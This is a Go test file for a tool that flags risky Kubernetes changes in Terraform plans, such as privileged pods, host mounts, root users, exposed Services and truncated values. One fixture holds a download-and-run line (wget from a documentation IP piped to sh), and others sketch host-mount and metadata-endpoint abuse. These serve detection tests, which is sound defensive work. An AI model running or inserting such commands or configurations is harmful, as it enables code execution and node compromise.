package plandiff

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

func flagLines(r *Report) []string {
	var out []string
	for _, f := range r.Flags {
		line := fmt.Sprintf("%s %s %s: %s -> %s", f.Rule, f.Address, f.Path, f.Before, f.After)
		if f.KnownAfterApply {
			line += " (known only after apply)"
		}
		out = append(out, line)
	}
	return out
}

// change is a resource_changes entry of any type.
func change(addr, typ, actions, body string) string {
	mode := "managed"
	if strings.HasPrefix(addr, "data.") {
		mode = "data"
	}
	return `{"address":"` + addr + `","mode":"` + mode + `","type":"` + typ + `","name":"x","change":{"actions":` + actions + `,` + body + `}}`
}

// pod wraps a pod spec (JSON object members) in a deployment's spec[0].template[0].spec[0].
func podJSON(members string) string {
	return `{"spec":[{"template":[{"spec":[{` + members + `}]}]}]}`
}

const podPathPrefix = "spec[0].template[0].spec[0]."

func TestRiskFlags(t *testing.T) {
	dep := "kubernetes_deployment.web"
	tests := []struct {
		name    string
		changes []string
		want    []string
	}{
		{
			name: "the incident, as an update",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"command":["httpd"],"security_context":[{"privileged":false,"run_as_user":65532,"run_as_non_root":true}]}],"volume":[{"name":"tmp","host_path":[]}]`)+
					`,"after":`+podJSON(`"container":[{"command":["sh","-c","cat /host/x"],"security_context":[{"privileged":true,"run_as_user":0,"run_as_non_root":false}]}],"volume":[{"name":"tmp","host_path":[]},{"name":"node","host_path":[{"path":"/var/lib/kubelet","type":""}]}]`))},
			want: []string{
				"privileged " + dep + " " + podPathPrefix + "container[0].security_context[0].privileged: false -> true",
				"host_path " + dep + " " + podPathPrefix + `volume[1].host_path: (none) -> [{path = "/var/lib/kubelet", type = ""}]`,
				"run_as_root " + dep + " " + podPathPrefix + "container[0].security_context[0].run_as_user: 65532 -> 0",
				"run_as_non_root_off " + dep + " " + podPathPrefix + "container[0].security_context[0].run_as_non_root: true -> false",
				"command " + dep + " " + podPathPrefix + `container[0].command: ["httpd"] -> ["sh", "-c", "cat /host/x"]`,
			},
		},
		{
			// Found in review (2026-12-07): what makes a shell run code the command does not show. The shipped
			// rules refuse each; the screen flags them for a policy that widens the rules.
			name: "terminal, stdin and code-loading variables",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"command":["httpd"],"tty":false,"env":[{"name":"TRACK","value":"a"}]}]`)+
					`,"after":`+podJSON(`"container":[{"command":["httpd"],"tty":true,"stdin":true,"env":[{"name":"TRACK","value":"a"},{"name":"HOME","value":"/tmp"}],"env_from":[{"config_map_ref":[{"name":"loader"}]}]}]`))},
			want: []string{
				"interactive " + dep + " " + podPathPrefix + "container[0].stdin: (none) -> true",
				"interactive " + dep + " " + podPathPrefix + "container[0].tty: false -> true",
				"code_env " + dep + " " + podPathPrefix + `container[0].env[1].name: (none) -> "HOME"`,
				"code_env " + dep + " " + podPathPrefix + `container[0].env_from[0].config_map_ref: (none) -> [{name = "loader"}]`,
			},
		},
		{
			// Found in review (2026-12-06): the mount and the command stay; the volume behind the mount now
			// reads a ConfigMap this plan neither creates nor shows.
			name: "volume behind an unchanged mount swapped to another ConfigMap",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"volume_mount":[{"name":"v","mount_path":"/tmp"}]}],"volume":[{"name":"v","empty_dir":[{"medium":"Memory"}]}]`)+
					`,"after":`+podJSON(`"container":[{"volume_mount":[{"name":"v","mount_path":"/tmp"}]}],"volume":[{"name":"v","config_map":[{"name":"left-earlier","default_mode":"0644"}]}]`))},
			want: []string{
				"volume_source " + dep + " " + podPathPrefix + `volume[0].config_map[0].name: (none) -> "left-earlier"`,
			},
		},
		{
			name: "found in review: each was neither refused nor flagged",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"security_context":[{"run_as_user":65532}],"container":[{"security_context":[{"run_as_user":65532}],"liveness_probe":[]}],"volume":[{"name":"v","config_map":[{"default_mode":"0644"}]}]`)+
					`,"after":`+podJSON(`"container":[{"liveness_probe":[{"http_get":[{"host":"169.254.169.254","path":"/"}]}]}],"volume":[{"name":"v","config_map":[{"default_mode":"0755","items":[{"key":"x","mode":"0700"}]}]}]`)),
				change("kubernetes_deployment.shadow", "kubernetes_deployment", `["create"]`,
					`"before":null,"after":{"spec":[{"template":[{"metadata":[{"annotations":{"container.seccomp.security.alpha.kubernetes.io/c":"unconfined","sidecar.example/inject":null}}],"spec":[{"container":[{"name":"c"}]}]}]}]},`+
						`"after_unknown":{"spec":[{"template":[{"metadata":[{"annotations":{"sidecar.example/inject":true}}]}]}]}`),
				change("kubernetes_deployment.hidden", "kubernetes_deployment", `["create"]`,
					`"before":null,"after":{"spec":[{"template":[{"spec":[{"container":[{"name":"c"}]}]}]}]},"after_unknown":{"spec":[{"template":[{"metadata":true}]}]}`)},
			want: []string{
				"capabilities_drop kubernetes_deployment.shadow " + podPathPrefix + "container[0]: (none) -> (ALL not dropped)",
				"capabilities_drop kubernetes_deployment.hidden " + podPathPrefix + "container[0]: (none) -> (ALL not dropped)",
				"run_as_root " + dep + " " + podPathPrefix + "container[0]: 65532 -> (no user)",
				"run_as_root kubernetes_deployment.shadow " + podPathPrefix + "container[0]: (none) -> (no user)",
				"run_as_root kubernetes_deployment.hidden " + podPathPrefix + "container[0]: (none) -> (no user)",
				"probe_host " + dep + " " + podPathPrefix + `container[0].liveness_probe[0].http_get[0].host: (none) -> "169.254.169.254"`,
				"unconfined_profile kubernetes_deployment.shadow spec[0].template[0].metadata[0].annotations[\"container.seccomp.security.alpha.kubernetes.io/c\"]: (none) -> \"unconfined\"",
				"pod_metadata kubernetes_deployment.shadow spec[0].template[0].metadata[0].annotations[\"sidecar.example/inject\"]: (none) -> (known after apply) (known only after apply)",
				"pod_metadata kubernetes_deployment.hidden spec[0].template[0].metadata: (none) -> (known after apply) (known only after apply)",
				"executable_volume " + dep + " " + podPathPrefix + `volume[0].config_map[0].default_mode: "0644" -> "0755"`,
				"executable_volume " + dep + " " + podPathPrefix + `volume[0].config_map[0].items[0].mode: (none) -> "0700"`,
				"volume_source " + dep + " " + podPathPrefix + `volume[0].config_map[0].items: (none) -> [{key = "x", mode = "0700"}]`,
			},
		},
		{
			name: "risky values the plan does not change are not flagged",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"host_network":true,"container":[{"image":"a","security_context":[{"privileged":true,"run_as_user":0}]}],"replicas":1`)+
					`,"after":`+podJSON(`"host_network":true,"container":[{"image":"a","security_context":[{"privileged":true,"run_as_user":0}]}],"replicas":2`))},
			want: nil,
		},
		{
			name: "a create counts as a change of everything; run_as_user 0 is the provider's default for unset",
			changes: []string{change(dep, "kubernetes_deployment", `["create"]`,
				`"before":null,"after":`+podJSON(`"host_pid":true,"host_ipc":false,"automount_service_account_token":true,"container":[{"image":"busybox","port":[{"container_port":80,"host_port":8080}],"security_context":[{"allow_privilege_escalation":true,"capabilities":[{"add":["NET_ADMIN"],"drop":null}],"run_as_user":0}]}]`))},
			want: []string{
				"host_pid " + dep + " " + podPathPrefix + "host_pid: (none) -> true",
				"capabilities_add " + dep + " " + podPathPrefix + `container[0].security_context[0].capabilities[0].add: (none) -> ["NET_ADMIN"]`,
				"capabilities_drop " + dep + " " + podPathPrefix + "container[0]: (none) -> (ALL not dropped)",
				"allow_privilege_escalation " + dep + " " + podPathPrefix + "container[0].security_context[0].allow_privilege_escalation: (none) -> true",
				"run_as_root " + dep + " " + podPathPrefix + "container[0].security_context[0].run_as_user: (none) -> 0",
				"host_port " + dep + " " + podPathPrefix + "container[0].port[0].host_port: (none) -> 8080",
				"automount_service_account_token " + dep + " " + podPathPrefix + "automount_service_account_token: (none) -> true",
				"image " + dep + " " + podPathPrefix + `container[0].image: (none) -> "busybox"`,
			},
		},
		{
			name: "init containers and cron job templates are covered: keys are found anywhere",
			changes: []string{change("kubernetes_cron_job.c", "kubernetes_cron_job", `["update"]`,
				`"before":{"spec":[{"job_template":[{"spec":[{"template":[{"spec":[{"init_container":[{"security_context":[{"privileged":false}]}]}]}]}]}]}]},`+
					`"after":{"spec":[{"job_template":[{"spec":[{"template":[{"spec":[{"init_container":[{"security_context":[{"privileged":true}]}]}]}]}]}]}]}`)},
			want: []string{"privileged kubernetes_cron_job.c spec[0].job_template[0].spec[0].template[0].spec[0].init_container[0].security_context[0].privileged: false -> true"},
		},
		{
			name: "a value known only after apply on a flagged attribute is flagged",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"service_account_name":"web","container":[{"image":"a"}]`)+`,"after":`+podJSON(`"container":[{}]`)+
					`,"after_unknown":`+podJSON(`"service_account_name":true,"container":[{"image":true}]`))},
			want: []string{
				"service_account " + dep + " " + podPathPrefix + `service_account_name: "web" -> (known after apply) (known only after apply)`,
				"image " + dep + " " + podPathPrefix + `container[0].image: "a" -> (known after apply) (known only after apply)`,
			},
		},
		{
			name: "Secrets into env and volumes",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"env":[{"name":"A","value_from":[{"secret_key_ref":[]}]}],"env_from":[]}],"volume":[{"secret":[]}]`)+
					`,"after":`+podJSON(`"container":[{"env":[{"name":"A","value_from":[{"secret_key_ref":[{"name":"db","key":"password"}]}]}],"env_from":[{"secret_ref":[{"name":"all"}]}]}],"volume":[{"secret":[{"secret_name":"tls"}]}]`))},
			want: []string{
				"secret_env " + dep + " " + podPathPrefix + `container[0].env[0].value_from[0].secret_key_ref: [] -> [{key = "password", name = "db"}]`,
				"secret_env_from " + dep + " " + podPathPrefix + `container[0].env_from[0].secret_ref: (none) -> [{name = "all"}]`,
				"secret_volume " + dep + " " + podPathPrefix + `volume[0].secret: [] -> [{secret_name = "tls"}]`,
			},
		},
		{
			name: "null and empty are the same command",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"args":[],"command":null}]`)+`,"after":`+podJSON(`"container":[{"args":null,"command":[]}]`))},
			want: nil,
		},
		{
			name: "services exposed outside the cluster; only kubernetes_service's spec type counts",
			changes: []string{
				change("kubernetes_service.web", "kubernetes_service", `["update"]`,
					`"before":{"spec":[{"type":"ClusterIP","external_ips":[]}]},"after":{"spec":[{"type":"LoadBalancer","external_ips":["203.0.113.7"]}]}`),
				change("kubernetes_service.np", "kubernetes_service", `["create"]`, `"before":null,"after":{"spec":[{"type":"NodePort"}]}`),
				change("kubernetes_service.ok", "kubernetes_service", `["create"]`, `"before":null,"after":{"spec":[{"type":"ClusterIP"}]}`),
				change("kubernetes_secret.s", "kubernetes_secret", `["create"]`, `"before":null,"after":{"type":"NodePort"}`),
			},
			want: []string{
				`service_exposed kubernetes_service.web spec[0].type: "ClusterIP" -> "LoadBalancer"`,
				`service_exposed kubernetes_service.np spec[0].type: (none) -> "NodePort"`,
				`external_ips kubernetes_service.web spec[0].external_ips: [] -> ["203.0.113.7"]`,
			},
		},
		{
			name: "RBAC and Ingress resources, deletions and replacements",
			changes: []string{
				change("kubernetes_cluster_role_binding.admin", "kubernetes_cluster_role_binding", `["create"]`, `"before":null,"after":{"role_ref":[{"name":"cluster-admin"}]}`),
				change("kubernetes_role.r", "kubernetes_role", `["update"]`, `"before":{"rule":[{"verbs":["get"]}]},"after":{"rule":[{"verbs":["*"]}]}`),
				change("kubernetes_ingress.web", "kubernetes_ingress", `["create"]`, `"before":null,"after":{}`),
				change("kubernetes_config_map.gone", "kubernetes_config_map", `["delete"]`, `"before":{"data":{"image":"x"}},"after":null`),
				change("kubernetes_config_map.again", "kubernetes_config_map", `["delete","create"]`, `"before":{"a":1},"after":{"a":2}`),
			},
			want: []string{
				"delete kubernetes_config_map.gone : exists -> destroyed",
				"replace kubernetes_config_map.again : exists -> destroyed and created again",
				"rbac kubernetes_cluster_role_binding.admin : (none) -> created",
				"rbac kubernetes_role.r : exists -> updated",
				"ingress kubernetes_ingress.web : (none) -> created",
			},
		},
		{
			name: "look-alike names and addresses",
			changes: []string{
				change("kubernetes_deployment.w\u0435b", "kubernetes_deployment", `["create"]`, `"before":null,"after":{"metadata":[{"name":"w\u0435b","labels":{"\u0430pp":"x"}}]}`),
			},
			want: []string{
				`look_alike kubernetes_deployment.w\u0435b [non-ASCII: U+0435 CYRILLIC SMALL LETTER IE] : (none) -> created`,
				`look_alike kubernetes_deployment.w\u0435b [non-ASCII: U+0435 CYRILLIC SMALL LETTER IE] metadata[0].labels["\u0430pp"] [non-ASCII: U+0430 CYRILLIC SMALL LETTER A]: (none) -> "x"`,
				`look_alike kubernetes_deployment.w\u0435b [non-ASCII: U+0435 CYRILLIC SMALL LETTER IE] metadata[0].name: (none) -> "w\u0435b" [non-ASCII: U+0435 CYRILLIC SMALL LETTER IE]`,
			},
		},
		{
			name: "data sources change nothing",
			changes: []string{
				change("data.kubernetes_secret.s", "kubernetes_secret", `["read"]`, `"before":null,"after":{"privileged":true}`),
			},
			want: nil,
		},
		{
			name: "a sensitive value is flagged but not shown",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"command":["a"]}]`)+`,"after":`+podJSON(`"container":[{"command":["b"]}]`)+
					`,"before_sensitive":`+podJSON(`"container":[{"command":true}]`)+`,"after_sensitive":`+podJSON(`"container":[{"command":true}]`))},
			want: []string{
				"hidden " + dep + " " + podPathPrefix + "container[0].command: (sensitive) -> (sensitive)",
				"command " + dep + " " + podPathPrefix + "container[0].command: (sensitive) -> (sensitive)",
			},
		},
		{
			name: "ConfigMap data known only after apply, whole or one file",
			changes: []string{
				change("kubernetes_config_map.a", "kubernetes_config_map", `["create"]`, `"before":null,"after":{"binary_data":null},"after_unknown":{"data":true}`),
				change("kubernetes_config_map.b", "kubernetes_config_map", `["update"]`,
					`"before":{"data":{"run.sh":"echo ok","x":"1"}},"after":{"data":{"x":"1"}},"after_unknown":{"data":{"run.sh":true}}`)},
			want: []string{
				`unknown_config kubernetes_config_map.a data: (none) -> (known after apply) (known only after apply)`,
				`unknown_config kubernetes_config_map.b data["run.sh"]: "echo ok" -> (known after apply) (known only after apply)`,
			},
		},
		{
			name: "binary ConfigMap data shows only as base64",
			changes: []string{change("kubernetes_config_map.worker", "kubernetes_config_map", `["update"]`,
				`"before":{"data":{"a":"x"},"binary_data":null},"after":{"data":{"a":"x"},"binary_data":{"run.sh":"IyEvYmluL3NoCg=="}}`)},
			want: []string{`binary_data kubernetes_config_map.worker binary_data: null -> {["run.sh"] = "IyEvYmluL3NoCg=="}`},
		},
		{
			name: "a value the workspace hides from the screen is flagged as hidden, whatever its key",
			changes: []string{change("kubernetes_config_map.cgi", "kubernetes_config_map", `["create"]`,
				`"before":null,"after":{"data":{"x":"#!/bin/sh"}},"after_sensitive":{"data":{"x":true}}`)},
			want: []string{`hidden kubernetes_config_map.cgi data.x: (none) -> (sensitive)`},
		},
		{
			// Found in review (2026-12-06): each passed with "Risk flags: none" (review case u2-web-placement).
			name: "pod placement, priority, DNS and process namespace",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"node_name":"","toleration":[],"node_selector":{},"affinity":[],"priority_class_name":"","host_aliases":[],"dns_config":[],"dns_policy":"ClusterFirst","share_process_namespace":false,"container":[{"name":"c"}]`)+
					`,"after":`+podJSON(`"node_name":"cp-1","toleration":[{"operator":"Exists"}],"node_selector":{"node-role.kubernetes.io/control-plane":""},"affinity":[{"node_affinity":[{"required_during_scheduling_ignored_during_execution":[{"node_selector_term":[{"match_expressions":[{"key":"kubernetes.io/hostname","operator":"In","values":["cp-1"]}]}]}]}]}],"priority_class_name":"system-node-critical","host_aliases":[{"ip":"10.0.0.66","hostnames":["vault.vault.svc"]}],"dns_config":[{"nameservers":["10.0.0.66"]}],"dns_policy":"None","share_process_namespace":true,"container":[{"name":"c"}]`))},
			want: []string{
				"placement " + dep + " " + podPathPrefix + `affinity: [] -> [{node_affinity = [{required_during_scheduling_ignored_during_execution = [{node_selector_term = [{match_expressions = [{key = "kubernetes.io/hostname", operator = "In", values = ["cp-1"]}]}]}]}]}]`,
				"placement " + dep + " " + podPathPrefix + `dns_config: [] -> [{nameservers = ["10.0.0.66"]}]`,
				"placement " + dep + " " + podPathPrefix + `dns_policy: "ClusterFirst" -> "None"`,
				"placement " + dep + " " + podPathPrefix + `host_aliases: [] -> [{hostnames = ["vault.vault.svc"], ip = "10.0.0.66"}]`,
				"placement " + dep + " " + podPathPrefix + `node_name: "" -> "cp-1"`,
				"placement " + dep + " " + podPathPrefix + `node_selector: {} -> {["node-role.kubernetes.io/control-plane"] = ""}`,
				"placement " + dep + " " + podPathPrefix + `priority_class_name: "" -> "system-node-critical"`,
				"placement " + dep + " " + podPathPrefix + `share_process_namespace: false -> true`,
				"placement " + dep + " " + podPathPrefix + `toleration: [] -> [{operator = "Exists"}]`,
			},
		},
		{
			name: "an unchanged or harmless placement is not flagged",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"node_name":"","toleration":[],"node_selector":{"pool":"web"},"dns_policy":"ClusterFirst","share_process_namespace":false,"container":[{"name":"c"}]`)+
					`,"after":`+podJSON(`"node_name":null,"toleration":[],"node_selector":{"pool":"web"},"dns_policy":"Default","share_process_namespace":false,"container":[{"name":"c"}]`))},
			want: nil,
		},
		{
			// Found in review (2026-12-06): plan-no-added-capabilities looks only at add.
			name: "capabilities no longer dropped, by an emptied list, a block left out, a container added",
			changes: []string{change(dep, "kubernetes_deployment", `["update"]`,
				`"before":`+podJSON(`"container":[{"name":"a","security_context":[{"capabilities":[{"drop":["ALL"]}]}]},{"name":"b","security_context":[{"capabilities":[{"drop":["ALL"]}]}]},{"name":"c","security_context":[]}]`)+
					`,"after":`+podJSON(`"init_container":[{"name":"i","security_context":[{"capabilities":[{"drop":["ALL"]}]}]}],"container":[{"name":"a","security_context":[{"capabilities":[{"drop":["NET_RAW"]}]}]},{"name":"b","security_context":[{"capabilities":[]}]},{"name":"c","security_context":[]},{"name":"d"}]`))},
			want: []string{
				"capabilities_drop " + dep + " " + podPathPrefix + `container[0]: ["ALL"] -> ["NET_RAW"]`,
				"capabilities_drop " + dep + " " + podPathPrefix + `container[1]: ["ALL"] -> (ALL not dropped)`,
				"capabilities_drop " + dep + " " + podPathPrefix + `container[3]: (none) -> (ALL not dropped)`,
				"run_as_root " + dep + " " + podPathPrefix + `init_container[0]: (none) -> (no user)`,
				"run_as_root " + dep + " " + podPathPrefix + `container[3]: (none) -> (no user)`,
			},
		},
		{
			// Found in review (2026-12-06): a Service's selector, or a pod's labels, redirect traffic (review case
			// u1-service-selector). A pod template's labels on a create or a replacement are new with the rest.
			name: "Service selector and pod template labels",
			changes: []string{
				change("kubernetes_service.web", "kubernetes_service", `["update"]`,
					`"before":{"spec":[{"type":"ClusterIP","selector":{"app":"web"}}]},"after":{"spec":[{"type":"ClusterIP","selector":{"app":"shadow"}}]}`),
				change("kubernetes_service.new", "kubernetes_service", `["create"]`,
					`"before":null,"after":{"spec":[{"type":"ClusterIP","selector":{"app":"web"}}]}`),
				change(dep, "kubernetes_deployment", `["update"]`,
					`"before":{"spec":[{"template":[{"metadata":[{"labels":{"app":"web"}}],"spec":[{"container":[{"name":"c"}]}]}]}]}`+
						`,"after":{"spec":[{"template":[{"metadata":[{"labels":{"app":"web","vault-client":"true"}}],"spec":[{"container":[{"name":"c"}]}]}]}]}`),
				change("kubernetes_deployment.replaced", "kubernetes_deployment", `["delete","create"]`,
					`"before":{"spec":[{"template":[{"metadata":[{"labels":{"track":"stable"}}],"spec":[{"container":[{"name":"c"}]}]}]}]}`+
						`,"after":{"spec":[{"template":[{"metadata":[{"labels":{"track":"canary"}}],"spec":[{"container":[{"name":"c"}]}]}]}]}`),
			},
			want: []string{
				"replace kubernetes_deployment.replaced : exists -> destroyed and created again",
				`selector kubernetes_service.web spec[0].selector: {app = "web"} -> {app = "shadow"}`,
				`selector kubernetes_service.new spec[0].selector: (none) -> {app = "web"}`,
				"selector " + dep + " spec[0].template[0].metadata[0].labels: {app = \"web\"} -> {app = \"web\", vault-client = \"true\"}",
			},
		},
		{
			// Found in review (2026-12-06): a new workload whose pods carry an existing Service's labels takes
			// a share of its traffic, though the Service, unchanged, shows nothing. Not flagged: the same
			// labels in another namespace, and the workload that served the Service before its replacement.
			name: "new pods join an existing Service",
			changes: []string{
				change("kubernetes_service.web", "kubernetes_service", `["no-op"]`,
					`"before":{"metadata":[{"namespace":"demo-app"}],"spec":[{"selector":{"app":"web"}}]},"after":{"metadata":[{"namespace":"demo-app"}],"spec":[{"selector":{"app":"web"}}]}`),
				change("kubernetes_deployment.shadow", "kubernetes_deployment", `["create"]`,
					`"before":null,"after":{"metadata":[{"namespace":"demo-app"}],"spec":[{"template":[{"metadata":[{"labels":{"app":"web","track":"x"}}],"spec":[{"container":[{"name":"c","security_context":[{"run_as_user":1,"capabilities":[{"drop":["ALL"]}]}]}]}]}]}]}`),
				change("kubernetes_deployment.elsewhere", "kubernetes_deployment", `["create"]`,
					`"before":null,"after":{"metadata":[{"namespace":"other"}],"spec":[{"template":[{"metadata":[{"labels":{"app":"web"}}],"spec":[{"container":[{"name":"c","security_context":[{"run_as_user":1,"capabilities":[{"drop":["ALL"]}]}]}]}]}]}]}`),
				change(dep, "kubernetes_deployment", `["delete","create"]`,
					`"before":{"metadata":[{"namespace":"demo-app"}],"spec":[{"template":[{"metadata":[{"labels":{"app":"web"}}],"spec":[{"container":[{"name":"c","security_context":[{"run_as_user":1,"capabilities":[{"drop":["ALL"]}]}]}]}]}]}]}`+
						`,"after":{"metadata":[{"namespace":"demo-app"}],"spec":[{"template":[{"metadata":[{"labels":{"app":"web"}}],"spec":[{"container":[{"name":"c","security_context":[{"run_as_user":1,"capabilities":[{"drop":["ALL"]}]}]}]}]}]}]}`),
			},
			want: []string{
				"replace " + dep + " : exists -> destroyed and created again",
				"selector kubernetes_deployment.shadow spec[0].template[0].metadata[0].labels: (not selected) -> selected by kubernetes_service.web",
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Diff(planOf(t, tt.changes...))
			got := flagLines(r)
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("flags:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
		})
	}
}

// TestFlaggedAttributesAreMarked: the attribute lines under a flag are marked on the screen too.
func TestFlaggedAttributesAreMarked(t *testing.T) {
	r := reportOf(t, "testdata/plan-incident.json")
	marked := map[string]bool{}
	for _, a := range r.Resources[0].Attributes {
		marked[strings.TrimPrefix(a.Path, podPathPrefix)] = a.Flagged
	}
	for path, want := range map[string]bool{
		"container[0].security_context[0].privileged":                true,
		"volume[1].host_path[0].path":                                true,
		"container[0].command[2]":                                    true,
		"container[0].security_context[0].read_only_root_filesystem": false,
		"volume[1].name":                                             false,
	} {
		if got, ok := marked[path]; !ok || got != want {
			t.Errorf("%s: flagged %v (present %v), want %v", path, got, ok, want)
		}
	}
}

// TestChangePastTheCut: a ConfigMap value longer than the screen shows, changed only after its first
// MaxStringBytes bytes, reads the same before and after on the screen. It is flagged, and the plan rules'
// input names it; an unchanged long value is neither.
func TestChangePastTheCut(t *testing.T) {
	head := "#!/bin/sh\n" + strings.Repeat("# a harmless comment line, one of many\n", 110)
	before := head + "echo tidy\n"
	after := head + "wget -q -O- http://198.51.100.7/x|sh\n"[:len("echo tidy\n")]
	long := head + "unchanged\n"
	js := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	p := planOf(t, change("kubernetes_config_map.worker", "kubernetes_config_map", `["update"]`,
		`"before":{"data":{"run.sh":`+js(before)+`,"same.sh":`+js(long)+`}},"after":{"data":{"run.sh":`+js(after)+`,"same.sh":`+js(long)+`}}`))
	r := Diff(p)
	var attr *Attribute
	for i, a := range r.Resources[0].Attributes {
		if a.Path == `data["run.sh"]` {
			attr = &r.Resources[0].Attributes[i]
		}
	}
	if attr == nil || attr.Before != attr.After {
		t.Fatalf("the premise: the screen shows the changed value the same before and after (%+v)", attr)
	}
	got := flagLines(r)
	if len(got) != 1 || !strings.HasPrefix(got[0], `cut kubernetes_config_map.worker data["run.sh"]: `) || !attr.Flagged {
		t.Errorf("flags: %q (attribute flagged %v); want one cut flag on data[\"run.sh\"]", got, attr.Flagged)
	}
	if lv := View(&p.Changes[0]).LongValues; len(lv) != 1 || lv[0] != `data["run.sh"]` {
		t.Errorf("LongValues = %q, want [data[\"run.sh\"]]", lv)
	}
}

// TestCutValueSensitive: a long value the workspace marks sensitive is flagged as hidden, not cut (the
// screen shows none of it), and a long value that was sensitive before shows as "(sensitive)" in its cut
// flag, as everywhere else on the screen, never in clear.
func TestCutValueSensitive(t *testing.T) {
	long := func(tail string) string { return strings.Repeat("# filler line of a long script\n", 200) + tail }
	js := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	p := planOf(t, change("kubernetes_config_map.worker", "kubernetes_config_map", `["update"]`,
		`"before":{"data":{"was.sh":`+js(long("old secret\n"))+`,"now.sh":"x"}},"after":{"data":{"was.sh":`+js(long("new\n"))+`,"now.sh":`+js(long("hidden\n"))+`}},`+
			`"before_sensitive":{"data":{"was.sh":true}},"after_sensitive":{"data":{"now.sh":true}}`))
	var cut []string
	for _, f := range Diff(p).Flags {
		if f.Rule == "cut" {
			cut = append(cut, f.Path+" "+f.Before)
		}
	}
	if len(cut) != 1 || cut[0] != `data["was.sh"] (sensitive)` {
		t.Errorf("cut flags %q; want one, on was.sh, its sensitive before shown as (sensitive)", cut)
	}
}
